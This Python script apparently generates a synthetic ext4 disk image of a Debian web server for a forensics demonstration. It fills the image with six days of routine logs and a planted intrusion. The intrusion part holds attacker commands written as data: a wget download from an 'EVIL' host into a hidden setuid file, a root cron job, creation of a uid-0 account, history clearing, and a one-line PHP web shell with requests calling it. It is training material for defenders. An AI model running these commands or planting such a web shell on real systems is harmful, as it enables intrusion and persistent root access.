#!/usr/bin/env python3
"""Makes the disk image of the demonstration: a small web server with six days of logs and an intrusion planted in them,
ext4 on GPT, without root. Deterministic.   usage: make_image.py OUT.raw   (needs mke2fs, debugfs, sfdisk)"""
import gzip
import os
import random
import re
import struct
import subprocess
import sys
import tempfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

OUT = Path(sys.argv[1]).resolve()
PATH = os.environ["PATH"] + ":/usr/sbin:/sbin"
HOST, EVIL = "web01", "203.0.113.77"
END = datetime(2026, 11, 20, 18, 0, 0, tzinfo=timezone.utc)
BREAK_IN = datetime(2026, 11, 18, 1, 12, 6, tzinfo=timezone.utc)
rnd = random.Random(20261120)
PEOPLE = {"root": 0, "alice": 1000, "bob": 1001, "deploy": 1005}
VISITORS = [f"198.51.100.{rnd.randrange(1, 255)}" for _ in range(40)] + [
    f"192.0.2.{rnd.randrange(1, 255)}" for _ in range(40)
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "kube-probe/1.29",
    "curl/7.88.1",
]
files = {}  # path: (bytes, mode, owner, modified)


def put(path, data, mode=0o644, owner=0, when=END):
    files[path] = (data if isinstance(data, bytes) else data.encode(), mode, owner, when)


def at(seconds):
    return BREAK_IN + timedelta(seconds=seconds)


class Log:
    """Lines with their times; written oldest first, one file a day, older days compressed as logrotate does."""

    def __init__(self, path, line, daily=True):
        self.path, self.line, self.daily, self.rows = path, line, daily, []

    def add(self, when, *parts):
        self.rows.append((when, *parts))

    def write(self):
        days = {}
        for row in sorted(self.rows, key=lambda r: r[0]):
            days.setdefault((END.date() - row[0].date()).days if self.daily else 0, []).append(row)
        for age, rows in days.items():
            text = "".join(self.line(*row) + "\n" for row in rows).encode()
            name = self.path + (f".{age}" if age else "") + (".gz" if age > 1 else "")
            put(name, gzip.compress(text, mtime=0) if age > 1 else text, 0o640, 0, rows[-1][0])


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")


def tagged(t, program, text):
    return f"{iso(t)} {HOST} {program}: {text}"


auth = Log("/var/log/auth.log", tagged)
syslog = Log("/var/log/syslog", tagged)
kern = Log("/var/log/kern.log", tagged, daily=False)
access = Log(
    "/var/log/nginx/access.log",
    lambda t, ip, request, code, size, agent: f'{ip} - - [{t.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{request}" {code} {size} "-" "{agent}"',
)
errors = Log(
    "/var/log/nginx/error.log", lambda t, text: t.strftime("%Y/%m/%d %H:%M:%S [error] 712#712: ") + text, daily=False
)
audit = Log(
    "/var/log/audit/audit.log",
    lambda t, kind, text, n=[
        100
    ]: f"type={kind} msg=audit({t.timestamp():.3f}:{n.__setitem__(0, n[0] + 1) or n[0]}): {text}",
    daily=False,
)
dpkg = Log("/var/log/dpkg.log", lambda t, text: t.strftime("%Y-%m-%d %H:%M:%S ") + text, daily=False)
app = Log(
    "/var/log/shop/shop.log",
    lambda t, level, text: t.strftime("%Y-%m-%d %H:%M:%S,") + f"{t.microsecond // 1000:03d} {level} {text}",
    daily=False,
)
history = {name: [] for name in PEOPLE}
wtmp, btmp = [], []


def utmp(kind, pid, line, user, host, when):
    ip = bytes(map(int, host.split("."))) if host.count(".") == 3 and host[0].isdigit() else bytes(4)
    return struct.pack(
        "<hxxi32s4s32s256shhiii4s32x",
        kind,
        pid,
        line.encode(),
        line[-4:].encode(),
        user.encode(),
        host.encode(),
        0,
        0,
        0,
        int(when.timestamp()),
        when.microsecond,
        ip,
    )


def login(when, user, ip, method, seconds):
    pid = rnd.randrange(1000, 60000)
    auth.add(
        when,
        f"sshd[{pid}]",
        f"Accepted {method} for {user} from {ip} port {rnd.randrange(1025, 65000)} ssh2"
        + (": ED25519 SHA256:8uXq2m0ZpB3nYtV7cRkLw9sHd4fGjA1eNo5iUxPzTbE" if method == "publickey" else ""),
    )
    auth.add(
        when + timedelta(milliseconds=11),
        f"sshd[{pid}]",
        f"pam_unix(sshd:session): session opened for user {user}(uid={PEOPLE[user]}) by (uid=0)",
    )
    auth.add(
        when + timedelta(seconds=seconds), f"sshd[{pid}]", f"pam_unix(sshd:session): session closed for user {user}"
    )
    wtmp.append((when, utmp(7, pid, "pts/0", user, ip, when)))
    wtmp.append((when + timedelta(seconds=seconds), utmp(8, pid, "pts/0", "", "", when + timedelta(seconds=seconds))))


def sudo(when, user, command):
    auth.add(when, "sudo", f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")


def noise():
    """Six days of what a server writes when nothing is wrong, and of what the internet tries on it."""
    start = END - timedelta(days=6)
    wtmp.append((start, utmp(2, 0, "~", "reboot", "6.1.0-26-amd64", start)))
    kern.add(
        start,
        "kernel",
        "[    0.000000] Linux version 6.1.0-26-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0)",
    )
    t = start
    while t < END:
        t += timedelta(seconds=rnd.expovariate(1 / 20))
        if t >= END:
            break
        x, ip = rnd.random(), rnd.choice(VISITORS)
        if x < 0.55:
            path = rnd.choice(
                [
                    "/",
                    "/cart",
                    "/checkout",
                    "/api/v1/items",
                    "/static/app.js",
                    "/healthz",
                    f"/api/v1/search?q={rnd.getrandbits(24):x}",
                ]
            )
            access.add(
                t,
                ip,
                f"GET {path} HTTP/1.1",
                rnd.choice([200] * 9 + [304, 404]),
                rnd.randrange(90000),
                rnd.choice(AGENTS),
            )
        elif x < 0.62:
            access.add(
                t, ip, f"GET {rnd.choice(['/wp-login.php', '/.env', '/xmlrpc.php'])} HTTP/1.1", 404, 162, "zgrab/0.x"
            )
            errors.add(
                t,
                f'*{rnd.randrange(10**6)} open() "/var/www/html/wp-login.php" failed (2: No such file or directory), client: {ip}, server: _, request: "GET /wp-login.php HTTP/1.1", host: "shop.example"',
            )
        elif x < 0.75:
            user = rnd.choice(["oracle", "test", "git", "admin", "pi"])
            auth.add(
                t,
                f"sshd[{rnd.randrange(1000, 60000)}]",
                f"Failed password for invalid user {user} from {ip} port {rnd.randrange(1025, 65000)} ssh2",
            )
            btmp.append((t, utmp(6, 4711, "ssh:notty", user, ip, t)))
        elif x < 0.85:
            syslog.add(
                t, f"CRON[{rnd.randrange(1000, 60000)}]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"
            )
        elif x < 0.93:
            syslog.add(
                t,
                "systemd[1]",
                f"Finished {rnd.choice(['logrotate', 'apt-daily', 'man-db', 'phpsessionclean'])}.service - Housekeeping.",
            )
        elif x < 0.97:
            kern.add(
                t,
                "kernel",
                f"[{(t - start).total_seconds():.6f}] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.1.23 LEN=60 PROTO=TCP SPT={rnd.randrange(1025, 65000)} DPT=23",
            )
        else:
            app.add(
                t,
                rnd.choice(["INFO"] * 5 + ["WARNING"]),
                f"order={rnd.randrange(10**5)} state={rnd.choice(['paid', 'packed', 'sent'])} ms={rnd.randrange(900)}",
            )
    for day in range(6):
        login(
            start + timedelta(days=day, hours=9, seconds=rnd.randrange(3000)),
            rnd.choice(["alice", "bob"]),
            "10.0.0.9",
            "publickey",
            4000,
        )
        sudo(start + timedelta(days=day, hours=9, minutes=58), "alice", "/usr/bin/systemctl status nginx")
        for user in ("alice", "bob"):
            for k, command in enumerate(["ls -la", "tail -f /var/log/nginx/access.log", "git pull", "df -h"]):
                history[user].append((start + timedelta(days=day, hours=10, minutes=k), command))
    for name, version in (
        ("libssl3", "3.0.15-1~deb12u1"),
        ("nginx", "1.22.1-9+deb12u1"),
        ("sudo", "1.9.13p3-1+deb12u1"),
    ):
        when = start + timedelta(days=1, hours=6)
        dpkg.add(when, f"install {name}:amd64 <none> {version}")
        dpkg.add(when + timedelta(seconds=2), f"status installed {name}:amd64 {version}")
    when = start + timedelta(days=1, hours=6)
    put(
        "/var/log/apt/history.log",
        f"\nStart-Date: {when:%Y-%m-%d  %H:%M:%S}\nCommandline: apt-get install nginx\nInstall: nginx:amd64 (1.22.1-9+deb12u1)\n"
        f"End-Date: {when + timedelta(seconds=4):%Y-%m-%d  %H:%M:%S}\n",
        when=when,
    )


def intrusion():
    """Password guessing, a login, root, a dropped program, persistence, a web shell, an account with uid 0."""
    for k in range(12):
        auth.add(at(2.4 * k), "sshd[31337]", f"Failed password for deploy from {EVIL} port {51000 + k} ssh2")
        btmp.append((at(2.4 * k), utmp(6, 31337, "ssh:notty", "deploy", EVIL, at(2.4 * k))))
    login(at(40.66), "deploy", EVIL, "password", 3600)
    sudo(at(65.12), "deploy", "/bin/bash")
    audit.add(
        at(65.2),
        "USER_CMD",
        'pid=31377 uid=1005 auid=1005 ses=77 subj=unconfined msg=\'cwd="/home/deploy" cmd="/bin/bash" exe="/usr/bin/sudo" terminal=pts/0 res=success\'',
    )
    for offset, command in (
        (56, "id; uname -a"),
        (83, f"wget http://{EVIL}/x -O /usr/local/bin/.sysupd"),
        (90, "chmod 4755 /usr/local/bin/.sysupd"),
        (97, "echo '*/5 * * * * root /usr/local/bin/.sysupd' > /etc/cron.d/sysupd"),
        (112, "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc_update"),
        (150, "history -c"),
    ):
        history["deploy"].append((at(offset), command))
    put("/usr/local/bin/.sysupd", b"\x7fELF\x02\x01\x01" + rnd.randbytes(40000), 0o4755, 0, at(84.4))
    put("/etc/cron.d/sysupd", "*/5 * * * * root /usr/local/bin/.sysupd\n", when=at(97.5))
    auth.add(
        at(112.9),
        "useradd[31402]",
        "new user: name=svc_update, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
    )
    for offset, request, code in (
        (2580, "GET /upload.php HTTP/1.1", 200),
        (2582, "POST /upload.php HTTP/1.1", 200),
        (2588, "GET /uploads/shell.php?c=id HTTP/1.1", 200),
        (2599, f"GET /uploads/shell.php?c=wget+http://{EVIL}/x HTTP/1.1", 200),
    ):
        access.add(at(offset), EVIL, request, code, 412, "curl/8.5.0")
    put("/var/www/html/uploads/shell.php", "<?php system($_GET['c']); ?>\n", 0o644, 33, at(2582.3))
    for k in range(0, 40):
        syslog.add(at(300 * k + 200), f"CRON[{32000 + k}]", "(root) CMD (/usr/local/bin/.sysupd)")


def machine():
    put("/etc/hostname", HOST + "\n", when=END - timedelta(days=90))
    put("/etc/machine-id", "7d1c4f0a9be14f6f8a52c3d9e0b1a2c3\n", 0o444, when=END - timedelta(days=90))
    put(
        "/etc/os-release",
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n',
        when=END - timedelta(days=90),
    )
    put("/etc/timezone", "Etc/UTC\n", when=END - timedelta(days=90))
    users = [
        ("root", 0, "/root", "/bin/bash"),
        ("www-data", 33, "/var/www", "/usr/sbin/nologin"),
        ("alice", 1000, "/home/alice", "/bin/bash"),
        ("bob", 1001, "/home/bob", "/bin/bash"),
        ("deploy", 1005, "/home/deploy", "/bin/bash"),
        ("svc_update", 0, "/root", "/bin/bash"),
    ]
    put("/etc/passwd", "".join(f"{n}:x:{u}:{u}::{h}:{s}\n" for n, u, h, s in users), when=at(112.9))
    put("/etc/group", "root:x:0:\nsudo:x:27:alice,deploy\nwww-data:x:33:\n", when=END - timedelta(days=60))
    put(
        "/etc/network/interfaces",
        "auto eth0\niface eth0 inet static\n    address 10.0.1.23/24\n    gateway 10.0.1.1\n",
        when=END - timedelta(days=90),
    )
    put("/boot/vmlinuz-6.1.0-26-amd64", b"\0" * 512, when=END - timedelta(days=60))
    put("/var/www/html/index.html", "<h1>shop</h1>\n", owner=33, when=END - timedelta(days=30))


def collect():
    for log in (auth, syslog, kern, access, errors, audit, dpkg, app):
        log.write()
    for name, records in (("wtmp", wtmp), ("btmp", btmp)):
        records.sort(key=lambda r: r[0])
        put(f"/var/log/{name}", b"".join(r for _, r in records), 0o660, 0, records[-1][0])
    lastlog = bytearray(292 * 1006)
    for uid, when, ip in ((1000, END - timedelta(hours=9), "10.0.0.9"), (1005, at(40.66), EVIL)):
        lastlog[292 * uid : 292 * uid + 292] = struct.pack("<i32s256s", int(when.timestamp()), b"pts/0", ip.encode())
    put("/var/log/lastlog", bytes(lastlog), when=END - timedelta(hours=9))
    for user, rows in history.items():
        if rows:
            put(
                f"/home/{user}/.bash_history",
                "".join(f"#{int(t.timestamp())}\n{c}\n" for t, c in sorted(rows)),
                0o600,
                PEOPLE[user],
                max(rows)[0],
            )


def run(*argv, **kw):
    subprocess.run(argv, check=True, env=dict(os.environ, PATH=PATH), stdout=subprocess.DEVNULL, **kw)


def stamp(t):
    return "@0x%x" % int(t.timestamp())


def build():
    size, offset = 96 << 20, 1 << 20
    with tempfile.TemporaryDirectory() as folder:
        for path, (data, mode, _, when) in files.items():
            target = Path(folder + path)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
            target.chmod(mode & 0o777)
            os.utime(target, (when.timestamp(), when.timestamp()))
        part = OUT.with_suffix(".part")
        part.unlink(missing_ok=True)
        with open(part, "wb") as f:
            f.truncate(size)
        run(
            "sfdisk",
            "--quiet",
            str(part),
            input=b"label: gpt\nlabel-id: 6F1D6F0E-4A57-4C41-9E0B-1A2C3D4E5F60\nstart=2048, type=linux, name=root\n",
        )
        run(
            "mke2fs",
            "-q",
            "-F",
            "-t",
            "ext4",
            "-L",
            "root",
            "-U",
            "11111111-2222-3333-4444-555555555555",
            "-E",
            f"offset={offset},root_owner=0:0",
            "-d",
            folder,
            str(part),
            f"{(size - 2 * offset) >> 10}k",
            stderr=subprocess.DEVNULL,
        )
        # Owners, set-uid bits and the times that a copy cannot carry, as they would be on the server itself.
        script = []
        for path in sorted({str(p) for f in files for p in Path(f).parents if str(p) != "/"}):
            script += [f"sif {path} {field} 0" for field in ("uid", "gid")]
            script += [
                f"sif {path} {field} {stamp(END - timedelta(days=90))}"
                for field in ("crtime", "ctime", "mtime", "atime")
            ]
        for path, (_, mode, owner, when) in files.items():
            born = (
                when
                if when < END - timedelta(days=7) or path.endswith(("shell.php", "sysupd"))
                else END - timedelta(days=60)
            )
            script += [
                f"sif {path} uid {owner}",
                f"sif {path} gid {owner}",
                f"sif {path} mode 0{0o100000 | mode:o}",
                f"sif {path} ctime {stamp(when)}",
                f"sif {path} atime {stamp(when)}",
                f"sif {path} crtime {stamp(born)}",
            ]
        image = f"{part}?offset={offset}"
        run("debugfs", "-w", "-f", "-", image, input="\n".join(script).encode(), stderr=subprocess.DEVNULL)
        # A tool that the intruder removed again: its inode stays, with its time of deletion.
        Path(folder + "/gone").write_bytes(rnd.randbytes(9000))
        tool = "/usr/local/bin/.scan"
        run("debugfs", "-w", "-R", f"write {folder}/gone {tool}", image, stderr=subprocess.DEVNULL)
        listed = subprocess.run(
            ["debugfs", "-R", f"stat {tool}", image], check=True, env=dict(os.environ, PATH=PATH), capture_output=True
        )
        inode = "<" + re.search(rb"Inode: (\d+)", listed.stdout).group(1).decode() + ">"
        script = [f"rm {tool}"] + [f"sif {inode} {field} {stamp(at(300))}" for field in ("crtime", "mtime", "atime")]
        script += [f"sif {inode} {field} {stamp(at(900))}" for field in ("ctime", "dtime")]
        run("debugfs", "-w", "-f", "-", image, input="\n".join(script).encode(), stderr=subprocess.DEVNULL)
        part.rename(OUT)


noise()
intrusion()
machine()
collect()
build()
print(f"{OUT}: {len(files)} files, logs of {(END - timedelta(days=6)):%d %b} to {END:%d %b %Y}")
